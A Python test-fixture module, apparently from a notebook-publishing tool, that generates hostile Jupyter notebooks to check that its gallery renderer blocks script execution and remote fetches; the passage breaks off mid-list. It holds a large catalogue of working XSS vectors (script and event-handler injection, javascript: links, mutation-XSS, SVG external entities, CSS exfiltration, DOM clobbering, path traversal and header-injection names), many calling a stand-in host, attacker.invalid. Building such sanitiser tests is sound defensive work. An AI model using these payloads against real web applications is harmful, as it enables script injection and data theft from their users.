"""Hostile notebooks: each tries, in its own way, to run script in the gallery or to phone home.

What a script of theirs would do is the same everywhere, so that a browser can tell: it sets
``window.__pwned`` to the notebook's id, or it asks ``http://attacker.invalid`` for the id.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from nb2prod.execution.models import (
    Artifact,
    ArtifactKind,
    CellRecord,
    CellStatus,
    FileAccess,
    FileUse,
    Machine,
    RunRecord,
    RunStatus,
)
from nb2prod.workspace.projects import Project
from nb2prod.workspace.workspace import Workspace
from tests.helpers.runs import finished_run

ATTACKER = "http://attacker.invalid"

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(64) + b"\xff\xd9").decode()
WEBP = "UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA=="


@dataclass(frozen=True, kw_only=True)
class HostileNotebook:
    """One attack.

    Parameters
    ----------
    id
        Names the attack; also what its script would write.
    notebook
        The executed notebook as nbformat 4 JSON, or nearly so.
    record_overrides
        Fields of the run record that attack as well.
    contents
        Contents that the record's artifacts refer to.
    """

    id: str
    notebook: Mapping[str, Any]
    record_overrides: Mapping[str, Any] = field(default_factory=dict)
    contents: tuple[bytes, ...] = ()

    @property
    def marker(self) -> str:
        """What a script of this notebook would execute."""
        return script(self.id)


def hostile_notebooks() -> list[HostileNotebook]:
    """All attacks; ids are unique."""
    return [
        *_of_each_type(),
        *_of_image_metadata(),
        *_of_html(),
        *_of_parsers(),
        *_of_markdown(),
        *_of_text(),
        *_of_svg(),
        *_of_names(),
        *_of_shape(),
    ]


def store_hostile(workspace: Workspace, project: Project, hostile: HostileNotebook) -> RunRecord:
    """Make a finished run of an attack, ready to be published."""
    for content in hostile.contents:
        workspace.blobs.put_bytes(content)
    return finished_run(workspace, project, hostile.notebook, **hostile.record_overrides)


def script(key: str) -> str:
    """The statement that shows that a script ran."""
    return f"window.__pwned='{key}'"


def remote(key: str) -> str:
    """The address that shows that something was fetched."""
    return f"{ATTACKER}/{key}"


def payload(key: str) -> str:
    """Markup with the usual ways in, to be put wherever text goes."""
    return (
        f"</script></style></textarea></title>\"'><script>{script(key)}</script>"
        f'<img src=x onerror="{script(key)}"><svg onload="{script(key)}"></svg>'
        f'<img src="{remote(key)}"><iframe srcdoc="<script>parent.{script(key)}</script>">'
        "</iframe>"
    )


def _notebook(*cells: Any, metadata: Mapping[str, Any] | None = None) -> dict[str, Any]:
    named = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
    }
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {**named, **(metadata or {})},
        "cells": list(cells),
    }


def _markdown(source: Any, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **more}


def _code(*outputs: Any, source: Any = "run()", **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "c",
        "metadata": {},
        "source": source,
        "execution_count": 1,
        "outputs": list(outputs),
        **more,
    }


def _display(data: Any, metadata: Any = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _html(key: str, markup: str) -> HostileNotebook:
    """The same markup as an output, in a markdown cell, and as an output of type markdown."""
    return HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(f"# A plain title\n\nbefore\n\n{markup}\n\nafter {markup} end"),
            _code(_display({"text/html": markup, "text/plain": "plain"})),
            _code(_display({"text/html": f"<table><tr><td>{markup}</td></tr></table>"})),
            _code(_display({"text/markdown": f"words {markup}\n\n{markup}"})),
        ),
    )


_TYPES = (
    "text/html",
    "text/plain",
    "text/markdown",
    "text/latex",
    "text/csv",
    "text/xml",
    "text/vnd.mermaid",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/x-evil",
    "application/json",
    "application/geo+json",
    "application/javascript",
    "application/pdf",
    "application/xhtml+xml",
    "application/vnd.plotly.v1+json",
    "application/vnd.vegalite.v5+json",
    "application/vnd.bokehjs_exec.v0+json",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.jupyter.widget-state+json",
    "application/vnd.jupyter.error",
)


def _of_each_type() -> Iterator[HostileNotebook]:
    for media_type in _TYPES:
        key = f"type-{media_type.replace('/', '-').replace('+', '-')}"
        attack = payload(key)
        value: Any = (
            {"model_id": attack, "data": [attack], attack: attack, "version_major": attack}
            if "json" in media_type
            else attack
        )
        metadata = {media_type: {"alt": attack, "isolated": True, attack: attack}, attack: attack}
        yield HostileNotebook(
            id=key,
            notebook=_notebook(
                _code(_display({media_type: value}, metadata)),
                _code(_display({media_type: [attack, attack]}, metadata)),
                _code(
                    {
                        "output_type": "execute_result",
                        "execution_count": attack,
                        "data": {media_type: value, "text/plain": attack},
                        "metadata": metadata,
                    }
                ),
            ),
        )
    key = "type-name-with-html"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(_display({payload(key): payload(key)})),
            _code(_display({f"image/{payload(key)}": PNG})),
            _code(_display({"text/html; charset=utf-7": payload(key)})),
            _code(_display({"TEXT/HTML": payload(key), " text/html": payload(key)})),
        ),
    )


def _of_image_metadata() -> Iterator[HostileNotebook]:
    images = {"png": PNG, "jpeg": JPEG, "gif": GIF, "webp": WEBP}
    for name, content in images.items():
        key = f"metadata-size-{name}"
        breakout = f'1" onload="{script(key)}" x="'
        sizes: tuple[Any, ...] = (
            {"width": breakout, "height": f"1 onload={script(key)}"},
            {"width": [payload(key)], "height": {payload(key): 1}},
            {"width": -1, "height": 10**30},
            {"width": float("1e308"), "height": "NaN", "unconfined": payload(key)},
            {"width": True, "height": "100%", "alt": payload(key), "class": payload(key)},
        )
        yield HostileNotebook(
            id=key,
            notebook=_notebook(
                *(
                    _code(_display({f"image/{name}": content}, {f"image/{name}": size, **size}))
                    for size in sizes
                ),
                _code(_display({f"image/{name}": content}, payload(key))),
                _code(_display({f"image/{name}": content}, {f"image/{name}": payload(key)})),
            ),
        )
    key = "image-not-base64"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(_display({"image/png": f'{PNG}" onerror="{script(key)}'})),
            _code(_display({"image/png": f"javascript:{script(key)}"})),
            _code(_display({"image/png": remote(key)})),
        ),
    )
    key = "image-is-html"
    page = base64.b64encode(f"<!doctype html><script>{script(key)}</script>".encode()).decode()
    polyglot = base64.b64encode(b"GIF89a/*" + payload(key).encode()).decode()
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(_display({"image/png": page})),
            _code(_display({"image/gif": polyglot})),
            _code(_display({"image/svg+xml": page})),
        ),
    )


def _of_html() -> Iterator[HostileNotebook]:
    def attack(key: str, markup: str) -> HostileNotebook:
        return _html(key, markup.replace("JS", script(key)).replace("URL", remote(key)))

    yield attack("html-script", "<script>JS</script><SCRIPT SRC='URL'></SCRIPT>")
    yield attack("html-script-split", "<scr<script>ipt>JS</scr</script>ipt><script/x>JS</script>")
    yield attack("html-script-module", '<script type="module">JS</script><script async src=URL>')
    yield attack("html-event-image", "<img src=x onerror=JS><img src=x oNeRrOr = 'JS'>")
    yield attack("html-event-slash", "<img/src=x/onerror=JS><b/onclick=JS>x</b>")
    yield attack(
        "html-event-many",
        "<details open ontoggle=JS>x</details><marquee onstart=JS>x</marquee>"
        "<video autoplay onloadstart=JS><source onerror=JS></video>"
        "<input autofocus onfocus=JS><body onload=JS><p onpointerenter=JS>hover</p>",
    )
    yield attack("html-iframe-srcdoc", '<iframe srcdoc="<script>parent.JS</script>"></iframe>')
    yield attack(
        "html-iframe-nested",
        '<iframe srcdoc="<iframe srcdoc=&quot;<script>top.JS</script>&quot;></iframe>"></iframe>'
        '<iframe src="javascript:parent.JS"></iframe><iframe src="URL"></iframe>'
        '<frameset><frame src="URL"></frameset>',
    )
    yield attack(
        "html-object-embed",
        '<object data="URL"><param name=x value=URL></object><embed src="URL">'
        '<object data="data:text/html,<script>parent.JS</script>"></object><applet code=URL>',
    )
    yield attack("html-meta-refresh", '<meta http-equiv="refresh" content="0;url=URL">')
    yield attack(
        "html-meta-policy",
        '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>JS</script>',
    )
    yield attack("html-base", '<base href="URL/"><a href="x">link</a><img src="x">')
    yield attack(
        "html-link-fetches",
        '<link rel="stylesheet" href="URL"><link rel="prefetch" href="URL">'
        '<link rel="dns-prefetch" href="//attacker.invalid"><link rel="preload" as="script"'
        ' href="URL"><link rel="icon" href="URL"><link rel="modulepreload" href="URL">',
    )
    yield attack(
        "html-remote-media",
        '<img src="URL"><img srcset="URL 1x, URL 2x"><picture><source srcset="URL"></picture>'
        '<video poster="URL" src="URL"></video><audio src="URL" autoplay></audio>'
        '<table background="URL"><tr><td background="URL">x</td></tr></table>'
        '<body background="URL"><input type=image src="URL"><img src="//attacker.invalid/x">',
    )
    yield attack(
        "html-style-exfiltration",
        '<style>@import "URL"; body{background:url(URL)} input[value^="a"]{background:url(URL)}'
        "@font-face{font-family:x;src:url(URL);unicode-range:U+0041} *{font-family:x}</style>"
        "A",
    )
    yield attack(
        "html-style-attribute",
        '<p style="background:url(URL);position:fixed;inset:0;z-index:9999">over all</p>'
        '<div style="width:expression(JS);behavior:url(URL)">x</div>',
    )
    yield attack(
        "html-scoped-style",
        "<div><style scoped>.dataframe td{background:url(URL)} @import 'URL';</style>"
        '<table class="dataframe" border="1"><tr><td>1</td></tr></table></div>',
    )
    yield attack(
        "html-form",
        '<form action="URL" method=post id=f><input name=password><button formaction="URL">Go'
        "</button><input type=submit value=Sign-in></form><button form=f>Send</button>"
        '<isindex action="javascript:JS"><select><option>x</select><textarea>y</textarea>',
    )
    yield attack(
        "html-clobbering",
        '<a id="htmx"></a><a id="katex" name="katex"></a><form id="document" name="body">'
        '<input id="cookie" name="querySelector"></form><img name="getElementById" id="config">'
        '<div id="main" class="btn page-actions" data-copy="x" aria-hidden="true">x</div>'
        '<a id="trustedTypes" href="javascript:JS">x</a><output id="isSafari">x</output>',
    )
    yield attack(
        "html-htmx",
        '<div hx-get="URL" hx-trigger="load" hx-on:load="JS" hx-vals="js:JS">x</div>'
        '<a data-hx-get="URL" data-hx-trigger="load">x</a><div x-data x-init="JS">x</div>'
        '<div hx-boost="true" hx-disable="false" hx-ext="x"><a href="URL">y</a></div>',
    )
    yield attack(
        "html-jupyter-commands",
        '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x'
        '</button><a data-commandlinker-command="console:create" href="#">y</a>'
        '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "JS"}</script>',
    )
    yield attack(
        "html-math-forged",
        '<span class="math" data-display="1">\\href{javascript:JS}{x}</span>'
        '<span class="math">\\htmlData{x=1}{y}\\includegraphics{URL}</span>$\\href{URL}{x}$',
    )
    yield attack(
        "html-links",
        '<a href="javascript:JS">1</a><a href="JaVaScRiPt&colon;JS">2</a>'
        '<a href="java&#9;script:JS">3</a><a href="&#x6A;avascript&#58;JS">4</a>'
        '<a href=" javascript:JS">5</a><a href="data:text/html,<script>JS</script>">6</a>'
        '<a href="vbscript:JS">7</a><a href="/hub/logout">8</a><a href="//attacker.invalid">9</a>'
        '<a href="https://ok.invalid" target="_top" ping="URL" onclick=JS download>10</a>'
        '<a href="blob:null/1">11</a><a href="filesystem:x">12</a><a href="../../hub/logout">13'
        '</a><a href="feed:javascript:JS">14</a><a href="\x01javascript:JS">15</a>',
    )
    yield attack(
        "html-custom-elements",
        '<x-evil onclick=JS style="x:expression(JS)">a</x-evil><dialog open oncancel=JS>b</dialog>'
        "<slot onslotchange=JS></slot><portal src=URL></portal><fencedframe src=URL>"
        "</fencedframe><bgsound src=URL><keygen autofocus onfocus=JS><layer src=URL>",
    )
    yield attack("html-popover", "<button popovertarget=p>x</button><p popover id=p ontoggle=JS>")


def _of_parsers() -> Iterator[HostileNotebook]:
    """Markup that one parser reads in another way than the next (mutation XSS)."""

    def attack(key: str, markup: str) -> HostileNotebook:
        return _html(key, markup.replace("JS", script(key)).replace("URL", remote(key)))

    image = "<img src=x onerror=JS>"
    yield attack("parser-noscript", f'<noscript><p title="</noscript>{image}"></noscript>')
    yield attack("parser-svg-style", f'<svg></p><style><a id="</style>{image}">')
    yield attack(
        "parser-math-mtext",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{image}">',
    )
    yield attack(
        "parser-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    )
    yield attack("parser-template", f"<template><script>JS</script>{image}</template>")
    yield attack(
        "parser-declarative-shadow",
        f'<div><template shadowrootmode="open">{image}<slot></slot></template></div>',
    )
    yield attack(
        "parser-comments",
        f"<!--><script>JS</script>--><!-- --!>{image}--><![CDATA[<script>JS</script>]]>"
        f"<?xml version='1.0'?><!doctype html [<!ENTITY x '{image}'>]>&x;",
    )
    yield attack("parser-title-textarea", f"<title><a id='</title>{image}'></title><textarea>")
    yield attack(
        "parser-plaintext", f"<xmp><b></xmp>{image}</xmp><noembed></noembed>{image}<plaintext>"
    )
    yield attack(
        "parser-select-table",
        f"<table><caption><select><table></select>{image}</table><tr><td><a href=1><td>{image}",
    )
    yield attack(
        "parser-foreign",
        f"<svg><foreignObject><math><annotation-xml encoding='text/html'>{image}"
        "</annotation-xml></math></foreignObject><desc><style><a title='</style>"
        f"{image}'></desc></svg>",
    )
    yield attack("parser-null-bytes", "<scr\x00ipt>JS</scr\x00ipt><img src=x on\x00error=JS>")
    yield attack("parser-unfinished", '<img src="x" onerror="JS" <b title="<img src=x onerror=JS')
    yield attack(
        "parser-deep-nesting", "<div>" * 600 + "<b><i><u>" * 200 + "<img src=x onerror=JS>"
    )
    key = "parser-open-attribute"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(
                f'<td title="\n\n$x" onclick="{script(key)}" y$\n\n![a](data:image/png;base64,'
                f'{PNG})\n\n# head" onmouseover="{script(key)}\n\n">words</td>\n\n'
                f"<a href='\n\n```python\nx = '{script(key)}'\n```\n\n'>x</a>"
            )
        ),
    )
    key = "parser-placeholder-forged"
    private = "".join(chr(code) for code in (0xE000, 0xE001, 0xE002, 0xF8FF, 0x100000))
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(f"{private}0{private}\ue0000\ue001\ue0001\ue001 $x$ `{payload(key)}`"),
            _markdown(f"# \ue0000\ue001 \ue000{payload(key)}\ue001\n\n$y$ \ue0001\ue001"),
            _code(
                {"output_type": "stream", "name": "stdout", "text": f"\ue0000\ue001{private}"},
                source="needle = '\ue000<img src=x>\ue001'",
            ),
        ),
    )


def _of_markdown() -> Iterator[HostileNotebook]:
    def attack(key: str, source: str, **more: Any) -> HostileNotebook:
        source = source.replace("JS", script(key)).replace("URL", remote(key))
        return HostileNotebook(
            id=key,
            notebook=_notebook(
                _markdown(source, **more), _code(_display({"text/markdown": source}))
            ),
        )

    yield attack(
        "markdown-links",
        "[1](javascript:JS) [2](JaVaScRiPt:JS) [3](java\tscript:JS) [4](&#106;avascript:JS)"
        " [5](javascript&colon;JS) [6](data:text/html;base64,PHNjcmlwdD4=) [7](vbscript:JS)"
        " [8](<javascript:JS>) [9](\x01javascript:JS) [10](//attacker.invalid/x)"
        ' [11](/hub/logout) [12](https://ok.invalid "a\\" onclick=\\"JS") [13](file:///etc/passwd)'
        " <javascript:JS> [14][ref] [15](blob:x) [16](\\\\attacker.invalid\\x)\n\n"
        '[ref]: javascript:JS "onclick=JS"',
    )
    yield attack(
        "markdown-images",
        '![1](URL) ![2](URL "x\\" onerror=\\"JS") ![3](javascript:JS) ![4](//attacker.invalid/4)'
        ' ![5"onerror="JS](x.png) ![6](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)'
        " ![7](data:text/html,<script>JS</script>) ![8](attachment:../../x) ![9](/hub/logout)"
        " [![10](URL)](URL) ![11](data:image/png;base64,PHNjcmlwdD4=) ![12](blobs/x)",
    )
    yield attack(
        "markdown-headings",
        '# <img src=x onerror=JS> title " onclick="JS\n\n## <script>JS</script>\n\n'
        "### htmx\n\n### htmx\n\n## [x](javascript:JS)\n\n<h2 id=main onclick=JS>raw</h2>\n\n"
        "# `<b>` $\\href{javascript:JS}{x}$ &lt;script&gt;JS&lt;/script&gt;",
    )
    yield attack(
        "markdown-code",
        '```python"><script>JS</script>\n<script>JS</script>\n```\n\n```<img src=x onerror=JS>\n'
        "</code></pre><img src=x onerror=JS>\n```\n\n    <script>JS</script>\n\n"
        "`</code><img src=x onerror=JS>`\n\n```mermaid\ngraph TD; A[<img src=x onerror=JS>]\n"
        '%%{init: {"securityLevel": "loose"}}%%\nclick A "javascript:JS"\n```',
    )
    yield attack(
        "markdown-math",
        '$\\href{javascript:JS}{x}$ $</span><img src=x onerror=JS>$ $$\\url{URL}" onclick="JS$$\n'
        "\n$$\n</span><script>JS</script>\n\\includegraphics{URL}\n$$\n\n\\begin{equation}\n"
        "\\htmlClass{x}{y}</span><img src=x onerror=JS>\n\\end{equation}\n\n"
        '\\begin{align}"><script>JS</script>\\end{align}\n\n$$x$$ (label" onclick="JS)',
    )
    yield attack(
        "markdown-tables",
        "| <script>JS</script> | b |\n|:-:|--:|\n| <img src=x onerror=JS> | [x](javascript:JS) |\n"
        '| ![x](URL) | `</td><script>JS</script>` |\n\n- [x] <input onfocus=JS autofocus>\n- [ ] "',
    )
    key = "markdown-attachments"
    yield attack(
        key,
        "![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c.svg) ![d](attachment:d)"
        f" ![e](attachment:{payload('e').replace(' ', '%20')}) ![f](attachment:f.png)"
        " ![g](attachment:%22onerror=JS)",
        attachments={
            "a.png": {"image/png": payload(key)},
            "b.png": {payload(key): PNG, "text/html": payload(key)},
            "c.svg": {"image/svg+xml": base64.b64encode(payload(key).encode()).decode()},
            "d": {"text/html": base64.b64encode(payload(key).encode()).decode()},
            payload(key): {"image/png": PNG},
            '"onerror=' + script(key): {"image/png": PNG},
            "f.png": payload(key),
            "": None,
        },
    )
    key = "markdown-attachments-malformed"
    yield attack(key, "![a](attachment:a.png)", attachments=[payload(key)])
    key = "conclusion-tagged"
    tagged = {"tags": ["conclusion"]}
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(
                _display({"text/html": f"<p>Won</p>{payload(key)}"}),
                _display({"text/markdown": f"**Won** {payload(key)}"}),
                {"output_type": "stream", "name": "stdout", "text": payload(key)},
                metadata=tagged,
            ),
        ),
    )
    key = "conclusion-section"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(f"# {payload(key)}\n\n## Conclusion\n\n{payload(key)} [x](javascript:x)")
        ),
    )


def _of_text() -> Iterator[HostileNotebook]:
    def attack(key: str, text: str, name: Any = "stdout") -> HostileNotebook:
        text = text.replace("JS", script(key)).replace("URL", remote(key))
        error = {
            "output_type": "error",
            "ename": f"Error{payload(key)}",
            "evalue": text,
            "traceback": [text, f"\x1b[0;31m{text}\x1b[0m"],
        }
        return HostileNotebook(
            id=key,
            notebook=_notebook(
                _code({"output_type": "stream", "name": name, "text": text}),
                _code({"output_type": "stream", "name": "stderr", "text": [text, text]}),
                _code(_display({"text/plain": text})),
                _code(error),
                _code(source=text),
                {"cell_type": "raw", "id": "r", "metadata": {}, "source": text},
            ),
            record_overrides={
                "status": RunStatus.FAILED,
                "reason": f"Cell 4 failed: {text}",
                "cells": (CellRecord(number=4, status=CellStatus.FAILED, error=text),),
            },
        )

    yield attack("text-html", "<script>JS</script><img src=x onerror=JS></pre><img src=URL>")
    yield attack(
        "text-ansi-html",
        '\x1b[31m<script>JS</script>\x1b[0m\x1b[38;5;"><img src=x onerror=JS>m'
        '\x1b[38;2;1;2;"onclick=JS"m x \x1b[1;31;<img src=x onerror=JS>m',
    )
    yield attack(
        "text-ansi-hyperlink",
        "\x1b]8;;javascript:JS\x1b\\click\x1b]8;;\x1b\\ \x1b]8;;URL\x07x\x1b]8;;\x07"
        '\x1b]0;<script>JS</script>\x07\x1b]8;id="><img src=x onerror=JS>;URL\x1b\\y',
    )
    yield attack(
        "text-ansi-unfinished",
        "\x1b[31\x1b[\x1b]8;;<img src=x onerror=JS>\n\x1b[38;5m\x1b[999999999999999999m\x1b[;;;m"
        "\x9b31m<b>\x90q<script>JS</script>\x1bPq<img src=x onerror=JS>\x1b\\",
    )
    yield attack(
        "text-overwritten",
        "<scr\r<script>JS</script>\rx\b\b\b<img src=x onerror=JS>\b\r\n&lt;script&gt;\b\b;JS",
    )
    yield attack("text-entities", "&lt;script&gt;JS&lt;/script&gt; &#60;img src=x onerror=JS&#62;")
    yield attack(
        "text-bidi",
        "access = 'user\u202e \u2066// check if admin\u2069 \u2066' <script>JS</script>"
        "\u202d\u2067\ufeff\u200b \u0000 \ud800",
    )
    key = "text-stream-name"
    yield attack(key, "text", name=f'stdout" onclick="{script(key)}')
    key = "text-error-fields"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code({"output_type": "error", "ename": payload(key), "evalue": payload(key)}),
            _code({"output_type": "error", "ename": 1, "evalue": [payload(key)], "traceback": 2}),
            _code({"output_type": "error", "traceback": [None, {payload(key): 1}]}),
        ),
    )
    key = "text-huge"
    line = f"<script>{script(key)}</script>"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code({"output_type": "stream", "name": "stdout", "text": f"{line}\n" * 20_000}),
            _code({"output_type": "stream", "name": "stdout", "text": line * 20_000}),
            _code(_display({"text/html": f"<p>{line}</p>" * 250_000})),
            _code(_display({"application/json": {"x": [line] * 20_000}})),
        ),
    )
    key = "text-latex"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(_display({"text/latex": f"$\\href{{javascript:{script(key)}}}{{x}}$"})),
            _code(_display({"text/latex": f"$$x$$</span>{payload(key)}"})),
            _code(_display({"text/latex": f"$\\unicode{{x}}</span>{payload(key)}$"})),
            _code(_display({"text/latex": f"\\begin{{tabular}}{payload(key)}\\end{{tabular}}"})),
        ),
    )


def _of_svg() -> Iterator[HostileNotebook]:
    def attack(key: str, inner: str, head: str = "") -> HostileNotebook:
        drawing = (
            f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink='
            f'"http://www.w3.org/1999/xlink" width="9" height="9">{inner}</svg>'
        )
        drawing = drawing.replace("JS", script(key)).replace("URL", remote(key))
        return HostileNotebook(
            id=key,
            notebook=_notebook(
                _code(_display({"image/svg+xml": drawing, "text/plain": "a drawing"})),
                _code(_display({"image/svg+xml": drawing.splitlines(keepends=True)})),
                _code(_display({"text/html": drawing})),
                _markdown(drawing),
                _markdown(
                    "![x](attachment:x.svg)",
                    attachments={
                        "x.svg": {"image/svg+xml": base64.b64encode(drawing.encode()).decode()}
                    },
                ),
            ),
        )

    yield attack("svg-script", "<script>JS</script><script href='URL'/><a href='javascript:JS'/>")
    yield attack("svg-events", '<rect onload="JS" onclick="JS"/><animate onbegin="JS" dur="1s"/>')
    yield attack(
        "svg-foreign-object",
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>JS</script>'
        '<iframe src="URL"></iframe></body></foreignObject>',
    )
    yield attack(
        "svg-external",
        '<use href="URL#x"/><image href="URL"/><image xlink:href="URL"/><style>@import "URL";'
        'rect{fill:url(URL#g)}</style><rect fill="url(URL#g)"/><feImage href="URL"/>',
    )
    yield attack(
        "svg-animated-link",
        '<a id="a"><text>x</text><animate attributeName="href" values="javascript:JS"/></a>'
        '<set attributeName="onmouseover" to="JS"/>',
    )
    yield attack(
        "svg-entities",
        "&x;<script>&y;</script>",
        '<?xml-stylesheet href="URL" type="text/xsl"?><!DOCTYPE svg [<!ENTITY x SYSTEM "URL">'
        '<!ENTITY y "JS">]>\n',
    )

    key = "svg-artifact"
    prologues = (
        f'<?xml-stylesheet href="{remote(key)}" type="text/xsl"?>',
        f'<!DOCTYPE svg SYSTEM "{remote(key)}">',
        f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{remote(key)}"> %x;]>',
        f"<!-- {payload(key)} -->",
    )
    drawings = tuple(
        f'{prologue}<svg xmlns="http://www.w3.org/2000/svg"><script>{script(key)}</script>'
        f'<image href="{remote(key)}"/></svg>'.encode()
        for prologue in prologues
    )
    yield HostileNotebook(
        id=key,
        notebook=_notebook(_markdown("![0](0.svg) ![1](1.svg) ![2](2.svg) ![3](3.svg)")),
        record_overrides={
            "artifacts": tuple(
                Artifact(
                    name=f"{number}.svg",
                    kind=ArtifactKind.FIGURE,
                    media_type="image/svg+xml",
                    sha256=hashlib.sha256(drawing).hexdigest(),
                    size_bytes=len(drawing),
                )
                for number, drawing in enumerate(drawings)
            )
        },
        contents=drawings,
    )


def _of_names() -> Iterator[HostileNotebook]:
    """Attacks from every place where a name, not a content, comes from the author."""
    key = "name-title"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(f"# Sales {payload(key)} \u202egnp.exe"), metadata={"title": payload(key)}
        ),
    )
    key = "name-tags"
    tags = [payload(key), f'x" onclick="{script(key)}', "poster", "conclusion", {"x": 1}, None]
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(
                {"output_type": "stream", "name": "stdout", "text": payload(key)},
                metadata={"tags": tags, "name": payload(key), "jupyter": {payload(key): 1}},
            ),
            _code(_display({"image/png": PNG}), metadata={"tags": payload(key)}),
        ),
    )
    key = "name-cell-ids"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown("# Title", id=f'x" onclick="{script(key)}'),
            _code(id=payload(key), execution_count=payload(key)),
            _code(id=[payload(key)], cell_type=payload(key)),
        ),
    )
    key = "name-kernel"
    hostile_names = {
        "kernelspec": {
            "name": payload(key),
            "display_name": payload(key),
            "language": payload(key),
        },
        "language_info": {
            "name": payload(key),
            "pygments_lexer": payload(key),
            "codemirror_mode": {"name": payload(key)},
            "mimetype": payload(key),
        },
        "authors": [{"name": payload(key)}],
        "nb2prod": {"main_metric": payload(key)},
    }
    yield HostileNotebook(
        id=key,
        notebook=_notebook(_code(source=payload(key)), metadata=hostile_names),
        record_overrides={
            "kernel_name": payload(key),
            "machine": Machine(
                python=payload(key),
                platform=payload(key),
                cpu=payload(key),
                cpu_count=2,
                host=payload(key),
            ),
        },
    )
    key = "name-widget-state"
    state = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"m": {"model_module": remote(key), "state": {"value": payload(key)}}},
            "version_major": 2,
        }
    }
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(_display({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}})),
            _code(
                _display(
                    {
                        "application/vnd.jupyter.widget-view+json": {"model_id": "m"},
                        "text/plain": f"HTML(value='{payload(key)}')",
                    }
                )
            ),
            metadata={"widgets": state},
        ),
    )
    key = "name-artifacts"
    content = payload(key).encode()
    names = (
        (payload(key), "text/html"),
        (f'a" onclick="{script(key)}.png', "image/png"),
        ("../../../etc/passwd", "text/plain"),
        ("C:\\evil\\..\\x.html", "application/xhtml+xml"),
        ("line\r\nSet-Cookie: x=1.csv", "text/csv\r\nX-Evil: 1"),
        ("\u202egnp.exe", payload(key)),
        ("drawing.svg", "image/svg+xml"),
        ("", ""),
    )
    contents = tuple(content + str(number).encode() for number in range(len(names)))
    yield HostileNotebook(
        id=key,
        notebook=_notebook(_code()),
        record_overrides={
            "artifacts": tuple(
                Artifact(
                    name=name,
                    kind=ArtifactKind.FIGURE,
                    media_type=media_type,
                    sha256=hashlib.sha256(stored).hexdigest(),
                    size_bytes=len(stored),
                )
                for (name, media_type), stored in zip(names, contents, strict=True)
            ),
            "files": tuple(
                FileUse(
                    path=name,
                    access=FileAccess.WRITTEN,
                    sha256=None,
                    size_bytes=None,
                    is_changed=True,
                )
                for name, _ in names
            ),
        },
        contents=contents,
    )
    key = "name-parameters"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _code(source=f"market = {payload(key)!r}", metadata={"tags": ["injected-parameters"]})
        ),
        record_overrides={
            "parameters": {payload(key): payload(key), "market": [payload(key), {"a": 1}]},
            "metrics": {payload(key)[:250]: 1.0, f'm" onclick="{script(key)}': 2.0},
            "requested_by": payload(key)[:250],
            "reason": payload(key),
            "status": RunStatus.CANCELLED,
        },
    )


def _of_shape() -> Iterator[HostileNotebook]:
    """Notebooks that are none, or whose parts have other types than they should."""
    key = "shape-outputs"
    wrong: tuple[Any, ...] = (
        None,
        payload(key),
        17,
        [],
        {},
        {"output_type": payload(key)},
        {"output_type": "stream"},
        {"output_type": "stream", "name": 3, "text": {"a": payload(key)}},
        {"output_type": "display_data"},
        {"output_type": "display_data", "data": None},
        {"output_type": "display_data", "data": [payload(key)]},
        {"output_type": "display_data", "data": {}, "metadata": payload(key)},
        _display({"text/html": None}),
        _display({"text/html": [1, None, payload(key)]}),
        _display({"text/html": {payload(key): payload(key)}}),
        _display({"image/png": 5}),
        _display({"image/png": ""}),
        _display({"image/svg+xml": b"".hex()}),
        _display({"text/plain": [["a"]]}),
        _display({"application/json": payload(key)}),
        _display({"application/json": None}),
        {"output_type": "error"},
    )
    yield HostileNotebook(id=key, notebook=_notebook(_code(*wrong)))
    key = "shape-cells"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            None,
            payload(key),
            [],
            {},
            {"cell_type": payload(key), "source": payload(key)},
            {"cell_type": "markdown", "source": None},
            {"cell_type": "markdown", "source": {"x": payload(key)}},
            {"cell_type": "code", "source": [payload(key), None], "outputs": payload(key)},
